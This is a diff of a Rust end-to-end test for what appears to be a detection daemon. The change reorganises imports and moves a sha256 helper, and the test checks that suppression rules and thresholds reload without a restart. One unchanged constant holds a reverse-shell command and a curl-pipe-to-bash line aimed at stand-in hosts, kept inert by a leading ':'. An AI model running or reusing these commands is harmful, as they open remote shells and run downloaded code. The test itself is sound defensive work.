@@ -2,11 +2,7 @@
 
 use std::{fs, net::TcpListener, process::Command};
 
-use e2e::{
-    metadata,
-    node::{Node, bin},
-    shell,
-};
+use e2e::{daemon::bin, metadata, node::Node, shell};
 
 /// Malicious by any model, and inert: `:` runs instead.
 const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";
@@ -105,7 +101,7 @@ fn the_threshold_and_the_suppressions_can_change_without_a_restart() {
         "[[suppress]]\npath = \"/x\"\nreason = \"y\"\n[[suppress]]\nsha256 = \"HASH\"\nreason = \"z\"\n",
     );
     node.reload("rule 2: sha256").expect("a refusal");
-    let hash = e2e::node::sha256(format!("{ATTACK} # 4").as_bytes());
+    let hash = e2e::outcome::sha256(format!("{ATTACK} # 4").as_bytes());
     write("0.01", &format!("[[suppress]]\nsha256 = \"{hash}\"\nreason = \"z\"\n"));
     node.reload("configuration read again").expect("a reload");
     attack(4);
